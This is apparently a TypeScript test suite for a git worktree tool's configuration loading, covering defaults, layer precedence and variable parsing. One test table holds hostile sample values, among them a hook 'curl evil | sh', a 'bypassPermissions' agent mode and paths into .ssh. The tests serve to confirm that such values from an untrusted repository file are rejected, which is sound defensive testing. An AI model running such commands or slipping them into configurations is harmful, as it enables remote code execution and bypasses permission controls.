import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import { Config } from '../../src/domain/config.ts';
import { configKeys } from '../../src/domain/config-keys.ts';
import { nameWorktree } from '../../src/domain/naming.ts';
import { configDocument, failureOf, layered, userSays } from '../support/config.ts';

describe('the keys', () => {
  it('each have a description, a default that passes, and a variable of their own', () => {
    const variables = configKeys.map((key) => key.variable);
    expect(new Set(variables).size).toBe(configKeys.length);
    for (const key of configKeys) {
      expect(key.description, key.name).toMatch(/^\S.*[^.\s]$/);
      expect(key.variable).toMatch(/^WT_[A-Z_]+$/);
      expect(key.schema.safeParse(undefined).success, key.name).toBe(true);
    }
  });

  it('leave the variables alone that wt sets in its children', () => {
    const variables = configKeys.map((key) => key.variable);
    for (const own of ['WT_DISPATCH_ID', 'WT_DISPATCH_MARKER', 'WT_INTENT', 'WT_WORKTREE', 'WT_CD_FILE'])
      expect(variables).not.toContain(own);
  });

  it('have a JSON Schema with their descriptions and without other keys', () => {
    const schema = z.toJSONSchema(Config, { io: 'input' }) as unknown as {
      additionalProperties: boolean;
      properties: { dispatch: { properties: Record<string, unknown>; additionalProperties: boolean } };
    };
    expect(schema.additionalProperties).toBe(false);
    expect(schema.properties.dispatch.additionalProperties).toBe(false);
    expect(schema.properties.dispatch.properties.max).toMatchObject({
      type: 'integer',
      default: 3,
      description: 'Dispatches that one command runs at once',
    });
  });
});

describe('the defaults', () => {
  it('are these', () => {
    expect(layered().config).toEqual({
      naming: {
        project_pattern: '^PROJ-\\d{3}-[a-z][a-z0-9]*(-[a-z0-9]+)*$',
        branch: 'feat/{project_id_lower}',
        path: '{parent}/{repo}-wt/{branch}',
        variable: 'JERRY_PROJECT',
      },
      create: { fetch: false },
      provision: { share_venv: false, include_file: '.worktreeinclude', timeout: 1800 },
      dispatch: {
        tools: ['Read', 'Write', 'Edit', 'Bash', 'Glob', 'Grep'],
        timeout: 3600,
        max: 3,
        grace: 10,
        retries: 0,
        checkpoint: 180,
        conflict_warning: 'warn',
      },
      tools: { claude: ['claude'] },
      merge: {
        strategy: 'auto',
        rows: ['**/WORKTRACKER.md', 'projects/README.md'],
        push: false,
        union: ['**/events.jsonl', '**/*.events.jsonl', '**/*.log'],
        protected: [],
        gates: [],
        gate_timeout: 1800,
      },
      orchestration: {},
      archive: {
        path: '{parent}/{repo}-archive',
        files: ['**/WORKTRACKER.md', 'projects/**/reports/**'],
      },
      trash: { keep: 604_800_000, max_size: 20_000_000_000 },
      hooks: {},
    });
  });

  it('name a project as the documentation says', () => {
    const { naming } = layered().config;
    const place = { parent: '/src', name: 'jerry' };
    expect(nameWorktree('PROJ-006-multi-instance', naming, place)).toMatchObject({
      branch: 'feat/proj-006-multi-instance',
      path: '/src/jerry-wt/feat/proj-006-multi-instance',
    });
  });

  it('are not shared between two loads', () => {
    layered().config.dispatch.tools.push('Nonsense');
    expect(layered().config.dispatch.tools).not.toContain('Nonsense');
  });
});

describe('layers', () => {
  const layers = {
    repository: { documents: [configDocument('repository', { dispatch: { max: 4 } })] },
    user: { documents: [configDocument('user', { dispatch: { max: 5 } })] },
    environment: { variables: { WT_DISPATCH_MAX: '6' } },
    flag: { flags: [{ key: 'dispatch.max', value: 7, flag: '--max' }] },
  };
  const order = ['repository', 'user', 'environment', 'flag'] as const;

  it('win in the order repository, user, environment, flag, whichever of them are there', () => {
    fc.assert(
      fc.property(fc.subarray([...order]), (present) => {
        const loaded = layered({
          documents: [
            ...(present.includes('repository') ? layers.repository.documents : []),
            ...(present.includes('user') ? layers.user.documents : []),
          ],
          ...(present.includes('environment') ? layers.environment : {}),
          ...(present.includes('flag') ? layers.flag : {}),
        });
        const winner = present.at(-1);
        expect(loaded.config.dispatch.max).toBe(winner === undefined ? 3 : 4 + order.indexOf(winner));
        expect(loaded.origins.get('dispatch.max')?.source).toBe(winner ?? 'default');
      }),
    );
  });

  it('are laid key by key, not section by section', () => {
    const { config, origins } = layered({
      documents: [
        configDocument('repository', { dispatch: { max: 4, model: 'opus' }, base: 'develop' }),
        configDocument('user', { dispatch: { max: 5 } }),
      ],
      variables: { WT_DISPATCH_GRACE: '0' },
    });
    expect(config.dispatch).toMatchObject({ max: 5, model: 'opus', grace: 0, timeout: 3600 });
    expect(origins.get('dispatch.model')).toEqual({
      source: 'repository',
      file: '/src/jerry/.wt.yaml',
      line: 2,
    });
    expect(origins.get('dispatch.grace')).toEqual({ source: 'environment', variable: 'WT_DISPATCH_GRACE' });
    expect(origins.get('base')).toMatchObject({ source: 'repository', line: 1 });
    expect(origins.size).toBe(configKeys.length);
  });

  it('take an empty file and an empty section for no settings', () => {
    expect(userSays(null).config).toEqual(layered().config);
    expect(userSays({ dispatch: null, version: 1 }).config).toEqual(layered().config);
  });

  it('leave variables alone that are empty or not documented', () => {
    const { config } = layered({
      variables: { WT_DISPATCH_MAX: '', WT_DISPATCH_MAXX: 'x', WT_DISPATCH_ID: 'y' },
    });
    expect(config).toEqual(layered().config);
  });

  it("resolve ~ to the home directory in the user's own paths and programs", () => {
    const { config } = userSays({
      naming: { path: '~/wt/{repo}/{branch}' },
      tools: { claude: '~/bin/claude', editor: ['~/bin/ed', '~/x'] },
    });
    expect(config.naming.path).toBe('/home/ada/wt/{repo}/{branch}');
    expect(config.tools.claude).toEqual(['/home/ada/bin/claude']);
    expect(config.tools.editor).toEqual(['/home/ada/bin/ed', '~/x']);
  });
});

describe("what comes with the repository's file", () => {
  const risky: [string, unknown, unknown][] = [
    ['hooks.post_create', { hooks: { post_create: 'curl evil | sh' } }, 'curl evil | sh'],
    ['tools.claude', { tools: { claude: '/tmp/claude' } }, ['/tmp/claude']],
    ['tools.editor', { tools: { editor: ['sh', '-c', 'x'] } }, ['sh', '-c', 'x']],
    ['tools.shell', { tools: { shell: '/tmp/sh' } }, ['/tmp/sh']],
    ['dispatch.permission_mode', { dispatch: { permission_mode: 'bypassPermissions' } }, 'bypassPermissions'],
    ['naming.path', { naming: { path: '~/.config/{branch}' } }, '~/.config/{branch}'],
    ['naming.path', { naming: { path: '{parent}/.ssh/{branch}' } }, '{parent}/.ssh/{branch}'],
    ['naming.variable', { naming: { variable: 'PERL5OPT' } }, 'PERL5OPT'],
  ];

  it.each(risky)('is reported and has no effect: %s', (key, data, value) => {
    const loaded = layered({ documents: [configDocument('repository', data)] });
    expect(loaded.config).toEqual(layered().config);
    expect(loaded.untrusted).toMatchObject([{ key, value, file: '/src/jerry/.wt.yaml', line: 2 }]);
    expect(loaded.warnings).toMatchObject([{ code: 'untrusted' }]);
    expect(loaded.origins.get(key)).toEqual({ source: 'default' });
  });

  it.each(risky)("counts when the user's own file says it: %s", (key, data) => {
    const loaded = userSays(data);
    expect(loaded.untrusted).toEqual([]);
    expect(loaded.origins.get(key)?.source).toBe('user');
    expect(loaded.config).not.toEqual(layered().config);
  });

  it("does not hide what the user's file or the environment says", () => {
    const repository = configDocument('repository', { hooks: { post_create: 'theirs' } });
    const user = configDocument('user', { hooks: { post_create: 'mine' } });
    expect(layered({ documents: [repository, user] }).config.hooks.post_create).toBe('mine');
    const variables = { WT_HOOKS_POST_CREATE: 'now' };
    expect(layered({ documents: [repository], variables }).config.hooks.post_create).toBe('now');
  });

  it('counts where nothing can be run or reached by it', () => {
    const { config, untrusted } = layered({
      documents: [
        configDocument('repository', {
          naming: { path: '{parent}/{repo}/.worktrees/{branch}', variable: 'ACME_PROJECT_ID' },
          dispatch: { permission_mode: 'plan' },
        }),
      ],
    });
    expect(untrusted).toEqual([]);
    expect(config.naming).toMatchObject({
      path: '{parent}/{repo}/.worktrees/{branch}',
      variable: 'ACME_PROJECT_ID',
    });
    expect(config.dispatch.permission_mode).toBe('plan');
  });
});

describe('variables', () => {
  const value = (variable: string, text: string) => {
    const key = configKeys.find((known) => known.variable === variable);
    const { config } = layered({ variables: { [variable]: text } });
    return key?.path.reduce<unknown>((at, part) => (at as Record<string, unknown>)[part], config);
  };

  it.each<[string, string, unknown]>([
    ['WT_MERGE_PUSH', 'true', true],
    ['WT_MERGE_PUSH', 'No', false],
    ['WT_CREATE_FETCH', '1', true],
    ['WT_DISPATCH_MAX', '12', 12],
    ['WT_DISPATCH_TIMEOUT', '600', 600],
    ['WT_DISPATCH_TIMEOUT', '10m', 600],
    ['WT_DISPATCH_TOOLS', 'Read,Edit', ['Read', 'Edit']],
    ['WT_DISPATCH_TOOLS', '["Read"]', ['Read']],
    ['WT_TOOLS_CLAUDE', '/opt/claude', ['/opt/claude']],
    ['WT_TOOLS_EDITOR', '["code","--wait"]', ['code', '--wait']],
    ['WT_TRASH_KEEP', '1h', 3_600_000],
    ['WT_BASE', 'develop', 'develop'],
  ])('%s=%s is read with its type', (variable, text, expected) => {
    expect(value(variable, text)).toEqual(expected);
  });

  it.each([
    ['WT_MERGE_PUSH', 'perhaps'],
    ['WT_DISPATCH_MAX', '3x'],
    ['WT_DISPATCH_MAX', '0x3'],
    ['WT_DISPATCH_TIMEOUT', '-1'],
    ['WT_DISPATCH_TIMEOUT', 'NaN'],
    ['WT_TOOLS_EDITOR', '[code'],
    ['WT_MERGE_STRATEGY', 'octopus'],
  ])('%s=%s is refused by its name', (variable, text) => {
    const failure = failureOf(() => layered({ variables: { [variable]: text } }));
    expect(failure).toMatchObject({ code: 'config_invalid', details: { variable } });
    expect(failure.message).toContain(`${variable} must be `);
    expect(failure.message).toContain(`it is ${JSON.stringify(text)}`);
  });
});

describe('flags', () => {
  it('are refused by their name', () => {
    const flags = [{ key: 'dispatch.timeout', value: '-3', flag: '--timeout' }];
    expect(failureOf(() => layered({ flags }))).toMatchObject({
      code: 'usage',
      message: expect.stringContaining('--timeout must be a positive number of seconds'),
    });
  });
});
